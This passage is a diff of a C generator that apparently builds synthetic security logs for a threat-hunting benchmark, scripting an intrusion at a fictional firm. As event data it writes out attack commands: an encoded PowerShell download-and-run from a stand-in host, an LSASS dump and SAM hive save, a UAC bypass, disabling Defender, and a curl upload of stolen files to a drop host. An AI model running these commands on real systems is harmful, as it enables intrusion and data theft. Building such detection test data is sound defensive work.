@@ -1,271 +1,243 @@
-/* gen_story.c - the attack on Harborlight, 10 to 14 June 2024, act by act.
+/* gen_story.c - the intrusion at Harborlight, 10 to 12 June 2024, act by act.
  *
- * Monday    a document on HL-WS01 starts PowerShell, which fetches a loader
- * Tuesday   credentials: LSASS and SAM on HL-WS01, password spray, tickets
- * Wednesday lateral movement: a service on HL-FILE01, WMI on HL-WS02, RDP to HL-DC01
- * Thursday  persistence that stays, collection, exfiltration
- * Friday    backups destroyed, files locked, logs cleared
+ * Monday     a document on HL-WS03 starts PowerShell, which leaves a beacon;
+ *            LSASS and SAM are dumped, a process is injected, tickets are asked for
+ * Tuesday    at night: passwords tried at HL-DC01, a service on HL-FILE01, files taken;
+ *            WMI to HL-DC01, the domain database, a new account
+ * Wednesday  at night: backups destroyed, files locked, logs cleared
  *
  * docs/hunts.md asks about what is told here. */
 #include "bench/gen/gen_world.h"
 
 #define PS "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-#define CMD "C:\\Windows\\System32\\cmd.exe"
 #define SYSTEM32(file) "C:\\Windows\\System32\\" file
-#define LOADER "C:\\Users\\ines.duarte\\AppData\\Roaming\\OneSync\\onesync.exe"
+#define OFFICE(file) "C:\\Program Files\\Microsoft Office\\root\\Office16\\" file
+#define BEACON "C:\\Users\\mara.lindqvist\\AppData\\Roaming\\BerthView\\berthview.exe"
+#define HIVE "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1109"
 #define SYSMON "Microsoft-Windows-Sysmon"
-#define TECHNIQUE(id, name, phase) "technique_id=" id ",technique_name=" name ",phase_name=" phase
+#define TECHNIQUE(id, name) "technique_id=" id ",technique_name=" name
 #define END ((char *)NULL)
 
 static gen_process *run(gen_world *w, gen_process *parent, gen_person user, const char *image,
                         const char *command_line, const char *rule) {
     gen_process *process = gen_spawn(w, parent, user, image, command_line, rule);
-    gen_wait(w, 600);
+    gen_wait(w, 300 + gen_below(&w->random, 900));
     gen_exit(w, process);
     gen_wait(w, 4000 + gen_below(&w->random, 20000));
     return process;
 }
 
-/* -- Monday --------------------------------------------------------------------------------------------- */
+/* -- Monday ------------------------------------------------------------------------------------------- */
 
 static gen_process *open_document(gen_world *w) {
-    gen_process *explorer = gen_running(w, GEN_WS01, GEN_INES, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
-    gen_at(w, 10, 8, 41, 7);
-    gen_process *outlook = gen_spawn(w, explorer, GEN_INES, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", NULL);
-    gen_wait(w, 740000);
-    const char *document = "C:\\Users\\ines.duarte\\Downloads\\Invoice_4471.docm";
-    gen_file(w, outlook, document, NULL);
-    gen_sysmon(w, outlook, 15, "TargetFilename", gen_print(w, "%s:Zone.Identifier", document), "CreationUtcTime",
-               "2024-06-10 08:53:29.101", "Hash", gen_hashes(w, document), "Contents",
-               "[ZoneTransfer]  ZoneId=3  HostUrl=https://mail.harborlight.example/", END);
-    gen_wait(w, 9000);
-    gen_process *word = gen_spawn(w, outlook, GEN_INES, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", gen_print(w, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"%s\"", document), NULL);
-    gen_load(w, word, SYSTEM32("VBE7.DLL"), "Microsoft Corporation", true);
-    gen_wait(w, 12000);
-    gen_process *powershell = gen_spawn(w, word, GEN_INES, PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", TECHNIQUE("T1059.001", "PowerShell", "Execution"));
-    gen_script(w, powershell, "IEX (New-Object Net.WebClient).DownloadString('https://cdn-invoices.example/a.ps1')");
-    gen_load(w, powershell, SYSTEM32("amsi.dll"), "Microsoft Corporation", true);
-    gen_resolve(w, powershell, "cdn-invoices.example", "::ffff:198.51.100.23;");
-    gen_connect(w, powershell, "198.51.100.23", "cdn-invoices.example", 443);
-    gen_script(w, powershell, "$p = \"$env:APPDATA\\OneSync\"; New-Item -ItemType Directory $p -Force | Out-Null\r\n(New-Object Net.WebClient).DownloadFile('https://cdn-invoices.example/o.bin', \"$p\\onesync.exe\")\r\nStart-Process \"$p\\onesync.exe\"");
-    gen_sysmon(w, powershell, 27, "RuleName", "downloads", "TargetFilename", "C:\\Users\\ines.duarte\\Downloads\\onesync.exe", "Hashes", gen_hashes(w, LOADER), END);
-    gen_file(w, powershell, LOADER, "EXE");
-    gen_sysmon(w, powershell, 29, "TargetFilename", LOADER, "Hashes", gen_hashes(w, LOADER), END);
-    gen_process *loader = gen_spawn(w, powershell, GEN_INES, LOADER, "\"" LOADER "\"", NULL);
+    gen_process *explorer = gen_running(w, GEN_WS03, GEN_MARA, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
+    gen_at(w, 10, 9, 12, 4);
+    gen_process *outlook = gen_spawn(w, explorer, GEN_MARA, OFFICE("OUTLOOK.EXE"), "\"" OFFICE("OUTLOOK.EXE") "\"", NULL);
+    gen_wait(w, 90000);
+    const char *document = "C:\\Users\\mara.lindqvist\\Downloads\\Berth allocation June – rev Ø.docm";
+    gen_sysmon(w, outlook, 15, "RuleName", TECHNIQUE("T1566.001", "Spearphishing Attachment"), "TargetFilename",
+               gen_print(w, "%s:Zone.Identifier", document), "CreationUtcTime", "2024-06-10 09:13:30.000", "Hash",
+               gen_hashes(w, document), "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=about:internet", END);
+    gen_process *word = gen_spawn(w, outlook, GEN_MARA, OFFICE("WINWORD.EXE"),
+                                  gen_print(w, "\"" OFFICE("WINWORD.EXE") "\" /n \"%s\"", document), NULL);
+    gen_load(w, word, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL", "Microsoft Corporation", true);
+    gen_wait(w, 11000);
+    gen_process *powershell = gen_spawn(w, word, GEN_MARA, PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAJwBoAHQAdABwADoALwAvAGMAZABuAC4AZgBsAGUAZQB0AC0AdABlAGwAZQBtAGUAdAByAHkALgBlAHgAYQBtAHAAbABlAC8AYQAnACkA", TECHNIQUE("T1059.001", "PowerShell"));
+    gen_script(w, powershell, "IEX (iwr 'http://cdn.fleet-telemetry.example/a')");
+    gen_resolve(w, powershell, "cdn.fleet-telemetry.example", "::ffff:203.0.113.77;");
+    gen_connect(w, powershell, "203.0.113.77", "cdn.fleet-telemetry.example", 80);
+    gen_file(w, powershell, BEACON, TECHNIQUE("T1105", "Ingress Tool Transfer"));
+    gen_sysmon(w, powershell, 29, "TargetFilename", BEACON, "Hashes", gen_hashes(w, BEACON), END);
+    gen_sysmon(w, powershell, 2, "TargetFilename", BEACON, "CreationUtcTime", "2019-12-07 09:08:41.000",
+               "PreviousCreationUtcTime", "2024-06-10 09:14:02.871", "RuleName", TECHNIQUE("T1070.006", "Timestomp"), END);
+    gen_process *beacon = gen_spawn(w, powershell, GEN_MARA, BEACON, "\"" BEACON "\" /quiet", NULL);
+    gen_set_value(w, beacon, HIVE "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\BerthView", BEACON,
+                  TECHNIQUE("T1547.001", "Registry Run Keys / Start Folder"));
     gen_exit(w, powershell);
-    return loader;
+    return beacon;
 }
 
-static void settle(gen_world *w, gen_process *loader) {
-    gen_process *explorer = gen_running(w, GEN_WS01, GEN_INES, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
-    gen_at(w, 10, 8, 56, 2);
-    gen_sysmon(w, loader, 25, "Type", "Image is replaced", END);
-    gen_add(w, loader->host, SYSMON, 8, "RuleName", TECHNIQUE("T1055", "Process Injection", "Defense Evasion"), "SourceProcessGuid", loader->guid, "SourceProcessId", loader->pid, "SourceImage", loader->image, "TargetProcessGuid", explorer->guid, "TargetProcessId", explorer->pid, "TargetImage", explorer->image, "NewThreadId", "7316", "StartAddress", "0x000001E4C1AF0000", "SourceUser", loader->user->account, "TargetUser", explorer->user->account, END);
-    gen_sysmon(w, loader, 12, "EventType", "CreateKey", "TargetObject", "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\OneSync", END);
-    gen_sysmon(w, loader, 14, "EventType", "RenameValue", "TargetObject", "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\OneSync\\tmp", "NewName", "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\OneSync\\id", END);
-    gen_set_value(w, loader, "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneSync", "\"" LOADER "\" /background", TECHNIQUE("T1547.001", "Registry Run Keys / Start Folder", "Persistence"));
-    for (uint32_t i = 0; i < 8; i++) { /* a beacon, every five minutes */
-        gen_resolve(w, loader, "sync.onesync-cdn.example", "::ffff:198.51.100.77;");
-        gen_connect(w, loader, "198.51.100.77", "sync.onesync-cdn.example", 443);
-        gen_wait(w, 300000 + gen_below(&w->random, 5000));
+/* Every ten minutes, until its host is left alone. */
+static void call_home(gen_world *w, const gen_process *beacon) {
+    for (int minute = 9 * 60 + 20; minute < (2 * 24 + 15) * 60 + 20; minute += 10) {
+        gen_at(w, 10 + minute / (24 * 60), minute / 60 % 24, minute % 60, 7);
+        gen_connect(w, beacon, "203.0.113.77", "cdn.fleet-telemetry.example", 443);
     }
-    gen_process *shell = gen_spawn(w, loader, GEN_INES, CMD, "cmd.exe", NULL);
-    run(w, shell, GEN_INES, SYSTEM32("whoami.exe"), "whoami /all", TECHNIQUE("T1033", "System Owner/User Discovery", "Discovery"));
-    run(w, shell, GEN_INES, SYSTEM32("systeminfo.exe"), "systeminfo", TECHNIQUE("T1082", "System Information Discovery", "Discovery"));
-    run(w, shell, GEN_INES, SYSTEM32("ipconfig.exe"), "ipconfig /all", NULL);
-    run(w, shell, GEN_INES, SYSTEM32("net.exe"), "net group \"Domain Admins\" /domain", TECHNIQUE("T1069.002", "Domain Groups", "Discovery"));
-    run(w, shell, GEN_INES, SYSTEM32("nltest.exe"), "nltest /dclist:harborlight.example", TECHNIQUE("T1018", "Remote System Discovery", "Discovery"));
-    run(w, shell, GEN_INES, SYSTEM32("tasklist.exe"), "tasklist /svc", NULL);
-    gen_sysmon(w, loader, 24, "Session", "1", "ClientInfo", "user: HARBOR\\ines.duarte", "Hashes", gen_hashes(w, "clip"), "Archived", "true", END);
-    gen_exit(w, shell);
 }
 
-/* -- Tuesday -------------------------------------------------------------------------------------------- */
+/* Returns the shell that has rights. */
+static gen_process *look_round(gen_world *w, gen_process *beacon) {
+    gen_at(w, 10, 9, 31, 12);
+    gen_process *shell = gen_spawn(w, beacon, GEN_MARA, SYSTEM32("cmd.exe"), SYSTEM32("cmd.exe") " /k", NULL);
+    run(w, shell, GEN_MARA, SYSTEM32("whoami.exe"), "whoami /groups /priv", TECHNIQUE("T1033", "System Owner/User Discovery"));
+    run(w, shell, GEN_MARA, SYSTEM32("net.exe"), "net  group \"Domain Admins\" /domain", TECHNIQUE("T1069.002", "Domain Groups"));
+    run(w, shell, GEN_MARA, SYSTEM32("nltest.exe"), "nltest  /domain_trusts /all_trusts", TECHNIQUE("T1482", "Domain Trust Discovery"));
+    run(w, shell, GEN_MARA, SYSTEM32("systeminfo.exe"), "systeminfo", NULL);
+    run(w, shell, GEN_MARA, SYSTEM32("tasklist.exe"), "tasklist /svc", NULL);
+    gen_set_value(w, beacon, HIVE "_Classes\\ms-settings\\shell\\open\\command\\(Default)", SYSTEM32("cmd.exe") " /c start " BEACON,
+                  TECHNIQUE("T1548.002", "Bypass User Access Control"));
+    gen_process *helper = gen_spawn(w, shell, GEN_MARA, SYSTEM32("fodhelper.exe"), "\"" SYSTEM32("fodhelper.exe") "\"", NULL);
+    gen_process *elevated = gen_spawn(w, helper, GEN_HELPDESK, SYSTEM32("cmd.exe"), "\"" SYSTEM32("cmd.exe") "\" /c start " BEACON,
+                                      TECHNIQUE("T1548.002", "Bypass User Access Control"));
+    gen_sysmon(w, beacon, 12, "EventType", "DeleteKey", "TargetObject", HIVE "_Classes\\ms-settings", END);
+    return elevated;
+}
 
-static void steal_credentials(gen_world *w, gen_process *loader) {
-    gen_process *lsass = gen_running(w, GEN_WS01, GEN_SYSTEM, SYSTEM32("lsass.exe"), SYSTEM32("lsass.exe"));
-    gen_process *services = gen_running(w, GEN_WS01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
-    gen_at(w, 11, 10, 14, 31);
-    gen_set_value(w, loader, "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1107_Classes\\ms-settings\\shell\\open\\command\\(Default)", LOADER " /e", TECHNIQUE("T1548.002", "Bypass User Access Control", "Privilege Escalation"));
-    gen_process *fodhelper = gen_spawn(w, loader, GEN_INES, SYSTEM32("fodhelper.exe"), "fodhelper.exe", NULL);
-    gen_process *elevated = gen_spawn(w, fodhelper, GEN_SYSTEM, LOADER, "\"" LOADER "\" /e", NULL);
-    gen_process *dumper = gen_spawn(w, elevated, GEN_SYSTEM, SYSTEM32("rundll32.exe"), "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 744 C:\\Windows\\Temp\\wct3A1.tmp full", TECHNIQUE("T1218.011", "Rundll32", "Defense Evasion"));
-    gen_access(w, dumper, lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+32d8e|C:\\Windows\\System32\\comsvcs.dll+2e6a0|C:\\Windows\\System32\\rundll32.exe+3b7c", TECHNIQUE("T1003.001", "LSASS Memory", "Credential Access"));
-    gen_file(w, dumper, "C:\\Windows\\Temp\\wct3A1.tmp", NULL);
+static void steal_credentials(gen_world *w, gen_process *shell) {
+    gen_at(w, 10, 11, 2, 40);
+    gen_process *lsass = gen_running(w, GEN_WS03, GEN_SYSTEM, SYSTEM32("lsass.exe"), SYSTEM32("lsass.exe"));
+    gen_at(w, 10, 11, 2, 40);
+    gen_process *dumper = gen_spawn(w, shell, GEN_SYSTEM, SYSTEM32("rundll32.exe"),
+                                    gen_print(w, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %s C:\\Windows\\Temp\\hl.dmp full", lsass->pid),
+                                    TECHNIQUE("T1003.001", "LSASS Memory"));
+    gen_access(w, dumper, lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe|C:\\Windows\\System32\\comsvcs.dll+2f4b1", TECHNIQUE("T1003.001", "LSASS Memory"));
+    gen_file(w, dumper, "C:\\Windows\\Temp\\hl.dmp", TECHNIQUE("T1003.001", "LSASS Memory"));
     gen_exit(w, dumper);
-    gen_access(w, elevated, lsass, "0x1010", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+32d8e|UNKNOWN(000001E4C1B2340)", TECHNIQUE("T1003.001", "LSASS Memory", "Credential Access"));
-    gen_wait(w, 60000);
-    run(w, elevated, GEN_SYSTEM, SYSTEM32("reg.exe"), "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv", TECHNIQUE("T1003.002", "Security Account Manager", "Credential Access"));
-    run(w, elevated, GEN_SYSTEM, SYSTEM32("reg.exe"), "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\y.hiv", TECHNIQUE("T1003.002", "Security Account Manager", "Credential Access"));
-    gen_sysmon(w, elevated, 9, "Device", "\\Device\\HarddiskVolume3", END);
-    gen_wait(w, 30000);
-    run(w, elevated, GEN_SYSTEM, SYSTEM32("schtasks.exe"), "schtasks /create /tn \"OneSync Updater\" /tr \"" LOADER "\" /sc onlogon /ru SYSTEM /f", TECHNIQUE("T1053.005", "Scheduled Task", "Persistence"));
-    const gen_user *user = &w->users[GEN_SYSTEM];
-    gen_add(w, loader->host, "Security", 4698, "SubjectUserSid", user->sid, "SubjectUserName", "HL-WS01$", "SubjectDomainName", "HARBOR", "SubjectLogonId", "0x3e7", "TaskName", "\\OneSync Updater", "TaskContent",
-            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\">\r\n  <Triggers><LogonTrigger/></Triggers>\r\n  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n  <Actions Context=\"Author\"><Exec><Command>" LOADER "</Command></Exec></Actions>\r\n</Task>", END);
-    gen_exit(w, elevated);
-    (void)services;
+    run(w, shell, GEN_SYSTEM, SYSTEM32("reg.exe"), "reg  save HKLM\\SAM C:\\Windows\\Temp\\s.hiv", TECHNIQUE("T1003.002", "Security Account Manager"));
 }
 
-static void spray_and_roast(gen_world *w) {
-    static const char *const names[] = {"administrator", "a.kowalski", "b.moreau", "c.ferrari", "d.novak", "e.santos", "f.keller", "guest", "helpdesk", "mara.lindqvist", "print", "scanner", "svc-backup", "svc-sql", "tomas.reyes", "test"};
-    gen_at(w, 11, 13, 2, 11);
-    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
-        gen_failed_logon(w, GEN_DC01, names[i], "192.0.2.21", "HL-WS01", i % 3 != 0);
-        gen_wait(w, 900 + gen_below(&w->random, 400));
-    }
-    gen_wait(w, 400000);
-    gen_failed_logon(w, GEN_DC01, "svc-backup", "192.0.2.21", "HL-WS01", false);
-    gen_wait(w, 2000);
-    gen_logon(w, GEN_DC01, GEN_BACKUP, 3, "192.0.2.21", "HL-WS01");
-    gen_wait(w, 500000);
-    static const char *const services[] = {"svc-backup", "svc-sql", "svc-web", "svc-print", "svc-scan"};
-    for (size_t i = 0; i < sizeof services / sizeof services[0]; i++) {
-        gen_ticket(w, GEN_INES, services[i], "0x17", "192.0.2.21");
-        gen_wait(w, 150);
+static void hide(gen_world *w, gen_process *shell) {
+    gen_process *spooler = gen_running(w, GEN_WS03, GEN_SYSTEM, SYSTEM32("spoolsv.exe"), SYSTEM32("spoolsv.exe"));
+    gen_at(w, 10, 11, 20, 3);
+    gen_add(w, shell->host, SYSMON, 8, "RuleName", TECHNIQUE("T1055", "Process Injection"), "SourceProcessGuid", shell->guid,
+            "SourceProcessId", shell->pid, "SourceImage", shell->image, "TargetProcessGuid", spooler->guid, "TargetProcessId",
+            spooler->pid, "TargetImage", spooler->image, "NewThreadId", "5124", "StartAddress", "0x000001D9A2C40000",
+            "SourceUser", shell->user->account, "TargetUser", spooler->user->account, END);
+    gen_sysmon(w, spooler, 25, "Type", "Image is replaced", "RuleName", TECHNIQUE("T1055.012", "Process Hollowing"), END);
+    gen_sysmon(w, spooler, 17, "EventType", "CreatePipe", "PipeName", "\\hl-status-9f3a", END);
+    gen_sysmon(w, shell, 18, "EventType", "ConnectPipe", "PipeName", "\\hl-status-9f3a", END);
+    gen_sysmon(w, shell, 24, "Session", "1", "ClientInfo", "user: HARBOR\\mara.lindqvist hostname: HL-WS03", "Hashes",
+               gen_hashes(w, "clipboard"), "Archived", "true", END);
+    run(w, shell, GEN_SYSTEM, PS, "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", TECHNIQUE("T1562.001", "Disable or Modify Tools"));
+    gen_ticket(w, GEN_MARA, "svc-backup", "0x17", "192.0.2.23");
+    gen_ticket(w, GEN_MARA, "svc-sql", "0x17", "192.0.2.23");
+    gen_ticket(w, GEN_MARA, "svc-web", "0x17", "192.0.2.23");
+}
+
+/* -- Tuesday ------------------------------------------------------------------------------------------ */
+
+static void try_passwords(gen_world *w) {
+    static const char *const tried[] = {"ines.duarte", "tomas.reyes", "admin", "administrator", "svc-sql", "svc-web", "svc-print", "helpdesk", "helpdesk2", "guest", "scanner", "svc-backup"};
+    gen_at(w, 11, 1, 40, 9);
+    for (size_t i = 0; i < sizeof tried / sizeof tried[0]; i++) {
+        bool is_unknown = i == 2 || i == 6 || i == 10;
+        gen_failed_logon(w, GEN_DC01, tried[i], "192.0.2.23", "HL-WS03", is_unknown);
+        gen_wait(w, 2100);
     }
 }
 
-/* -- Wednesday ------------------------------------------------------------------------------------------ */
+static void watch_the_clock(gen_world *w, const gen_host *host) {
+    const char *rule = TECHNIQUE("T1546.003", "WMI Event Subscription");
+    gen_add(w, host, SYSMON, 19, "EventType", "WmiFilterEvent", "Operation", "Created", "User", "HARBOR\\svc-backup",
+            "EventNamespace", "\"root\\\\cimv2\"", "Name", "\"BerthTick\"", "Query",
+            "\"SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_LocalTime'\"", "RuleName", rule, END);
+    gen_add(w, host, SYSMON, 20, "EventType", "WmiConsumerEvent", "Operation", "Created", "User", "HARBOR\\svc-backup", "Name",
+            "\"BerthTick\"", "Type", "Command Line", "Destination", "\"C:\\\\ProgramData\\\\bt.exe\"", "RuleName", rule, END);
+    gen_add(w, host, SYSMON, 21, "EventType", "WmiBindingEvent", "Operation", "Created", "User", "HARBOR\\svc-backup", "Consumer",
+            "\"CommandLineEventConsumer.Name=\\\"BerthTick\\\"\"", "Filter", "\"__EventFilter.Name=\\\"BerthTick\\\"\"", "RuleName", rule, END);
+}
 
-static gen_process *move_by_service(gen_world *w, gen_process *loader) {
-    gen_process *services = gen_running(w, GEN_FILE01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
-    gen_process *system = gen_running(w, GEN_FILE01, GEN_SYSTEM, "System", "");
-    gen_at(w, 12, 9, 22, 40);
-    gen_process *psexec = gen_spawn(w, loader, GEN_INES, "C:\\Users\\Public\\psexec.exe", "psexec.exe \\\\HL-FILE01 -accepteula -u HARBOR\\svc-backup -s cmd.exe", TECHNIQUE("T1569.002", "Service Execution", "Execution"));
-    gen_connect(w, psexec, "192.0.2.10", "HL-FILE01.harborlight.example", 445);
-    gen_logon(w, GEN_FILE01, GEN_BACKUP, 3, "192.0.2.21", "HL-WS01");
-    gen_share(w, GEN_FILE01, GEN_BACKUP, "ADMIN$", "PSEXESVC.exe", "192.0.2.21");
-    gen_file(w, system, "C:\\Windows\\PSEXESVC.exe", "EXE");
-    gen_sysmon(w, system, 29, "TargetFilename", "C:\\Windows\\PSEXESVC.exe", "Hashes", gen_hashes(w, "C:\\Windows\\PSEXESVC.exe"), END);
-    gen_share(w, GEN_FILE01, GEN_BACKUP, "IPC$", "svcctl", "192.0.2.21");
+static void take_files(gen_world *w) {
+    gen_logon(w, GEN_FILE01, GEN_BACKUP, 3, "192.0.2.23", "HL-WS03");
+    gen_share(w, GEN_FILE01, GEN_BACKUP, "ADMIN$", "PSEXESVC.exe", "192.0.2.23");
+    gen_share(w, GEN_FILE01, GEN_BACKUP, "IPC$", "PSEXESVC-HL-WS03-4412-stdin", "192.0.2.23");
     gen_service(w, GEN_FILE01, GEN_BACKUP, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
-    gen_process *service = gen_spawn(w, services, GEN_SYSTEM, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", TECHNIQUE("T1569.002", "Service Execution", "Execution"));
-    gen_sysmon(w, service, 17, "EventType", "CreatePipe", "PipeName", "\\PSEXESVC", END);
-    gen_sysmon(w, service, 17, "EventType", "CreatePipe", "PipeName", "\\PSEXESVC-HL-WS01-4412-stdin", END);
-    gen_sysmon(w, system, 18, "EventType", "ConnectPipe", "PipeName", "\\PSEXESVC-HL-WS01-4412-stdin", END);
-    gen_process *shell = gen_spawn(w, service, GEN_SYSTEM, CMD, "\"cmd.exe\"", NULL);
-    run(w, shell, GEN_SYSTEM, SYSTEM32("whoami.exe"), "whoami", TECHNIQUE("T1033", "System Owner/User Discovery", "Discovery"));
-    gen_file(w, shell, "C:\\Windows\\Temp\\gdrv9.sys", NULL);
-    gen_add(w, shell->host, SYSMON, 6, "RuleName", "-", "ImageLoaded", "C:\\Windows\\Temp\\gdrv9.sys", "Hashes", gen_hashes(w, "C:\\Windows\\Temp\\gdrv9.sys"), "Signed", "true", "Signature", "Motherboard Tools Ltd", "SignatureStatus", "Expired", END);
-    gen_file(w, shell, "C:\\Windows\\System32\\winhlp64.dll", NULL);
-    gen_sysmon(w, shell, 2, "RuleName", TECHNIQUE("T1070.006", "Timestomp", "Defense Evasion"), "TargetFilename", "C:\\Windows\\System32\\winhlp64.dll", "CreationUtcTime", "2021-04-09 03:12:44.000", "PreviousCreationUtcTime", "2024-06-12 09:24:10.311", END);
-    return shell;
+    gen_process *services = gen_running(w, GEN_FILE01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
+    gen_at(w, 11, 1, 44, 30);
+    gen_process *service = gen_spawn(w, services, GEN_SYSTEM, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", NULL);
+    gen_process *shell = gen_spawn(w, service, GEN_SYSTEM, SYSTEM32("cmd.exe"), "\"cmd.exe\"", NULL);
+    run(w, shell, GEN_SYSTEM, SYSTEM32("whoami.exe"), "whoami", NULL);
+    watch_the_clock(w, services->host);
+    gen_process *archiver = gen_spawn(w, shell, GEN_SYSTEM, "C:\\ProgramData\\r.exe", "r.exe a -hpHarbor2024 -m5 D:\\Shares\\fin.rar D:\\Shares\\Finance", TECHNIQUE("T1560.001", "Archive via Utility"));
+    gen_file(w, archiver, "D:\\Shares\\fin.rar", NULL);
+    gen_exit(w, archiver);
+    gen_process *curl = gen_spawn(w, shell, GEN_SYSTEM, SYSTEM32("curl.exe"), "curl.exe -T D:\\Shares\\fin.rar https://drop.quay-storage.example/u/", TECHNIQUE("T1048", "Exfiltration Over Alternative Protocol"));
+    gen_resolve(w, curl, "drop.quay-storage.example", "::ffff:198.51.100.23;");
+    gen_connect(w, curl, "198.51.100.23", "drop.quay-storage.example", 443);
+    gen_exit(w, curl);
+    gen_sysmon(w, shell, 26, "TargetFilename", "D:\\Shares\\fin.rar", "Hashes", gen_hashes(w, "D:\\Shares\\fin.rar"), "IsExecutable", "false", END);
 }
 
-static void move_by_wmi_and_rdp(gen_world *w, gen_process *loader) {
-    gen_process *host = gen_running(w, GEN_WS02, GEN_NETWORK_SERVICE, SYSTEM32("wbem\\WmiPrvSE.exe"), "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
-    gen_process *explorer = gen_running(w, GEN_DC01, GEN_HELPDESK, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
-    gen_at(w, 12, 11, 5, 9);
-    gen_process *wmic = gen_spawn(w, loader, GEN_INES, SYSTEM32("wbem\\WMIC.exe"), "wmic /node:HL-WS02 /user:HARBOR\\svc-backup process call create \"powershell -nop -w hidden -c Get-Process\"", TECHNIQUE("T1047", "Windows Management Instrumentation", "Execution"));
-    gen_connect(w, wmic, "192.0.2.22", "HL-WS02.harborlight.example", 135);
-    gen_exit(w, wmic);
-    gen_logon(w, GEN_WS02, GEN_BACKUP, 3, "192.0.2.21", "HL-WS01");
-    gen_process *remote = gen_spawn(w, host, GEN_BACKUP, PS, "powershell -nop -w hidden -c Get-Process", TECHNIQUE("T1047", "Windows Management Instrumentation", "Execution"));
-    gen_script(w, remote, "Get-Process | Where-Object { $_.Name -match 'veeam|sql|backup' } | Stop-Process -Force");
-    gen_exit(w, remote);
-    gen_at(w, 12, 15, 40, 18);
-    gen_process *mstsc = gen_spawn(w, loader, GEN_INES, SYSTEM32("mstsc.exe"), "mstsc /v:HL-DC01", NULL);
-    gen_connect(w, mstsc, "192.0.2.5", "HL-DC01.harborlight.example", 3389);
-    gen_logon(w, GEN_DC01, GEN_BACKUP, 10, "192.0.2.21", "HL-DC01");
-    gen_process *shell = gen_spawn(w, explorer, GEN_BACKUP, CMD, "\"C:\\Windows\\system32\\cmd.exe\"", NULL);
-    run(w, shell, GEN_BACKUP, SYSTEM32("net.exe"), "net user helpdesk2 Harbor!2024 /add /domain", TECHNIQUE("T1136.002", "Domain Account", "Persistence"));
+static void add_account(gen_world *w, const gen_host *host) {
     const gen_user *by = &w->users[GEN_BACKUP], *made = &w->users[GEN_HELPDESK];
-    gen_add(w, shell->host, "Security", 4720, "TargetUserName", "helpdesk2", "TargetDomainName", "HARBOR", "TargetSid", made->sid, "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", "HARBOR", "SubjectLogonId", by->logon_id, "SamAccountName", "helpdesk2", "PasswordLastSet", "%%1794", "AccountExpires", "%%1794", "PrimaryGroupId", "513", "OldUacValue", "0x0", "NewUacValue", "0x15", "UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "LogonHours", "%%1793", END);
-    run(w, shell, GEN_BACKUP, SYSTEM32("net.exe"), "net localgroup Administrators helpdesk2 /add", TECHNIQUE("T1098", "Account Manipulation", "Persistence"));
-    gen_add(w, shell->host, "Security", 4732, "MemberName", "CN=helpdesk2,CN=Users,DC=harborlight,DC=example", "MemberSid", made->sid, "TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544", "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", "HARBOR", "SubjectLogonId", by->logon_id, END);
-    run(w, shell, GEN_BACKUP, SYSTEM32("ntdsutil.exe"), "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\n\" q q", TECHNIQUE("T1003.003", "NTDS", "Credential Access"));
-    gen_exit(w, shell);
+    gen_add(w, host, "Security", 4720, "TargetUserName", made->name, "TargetDomainName", "HARBOR", "TargetSid", made->sid,
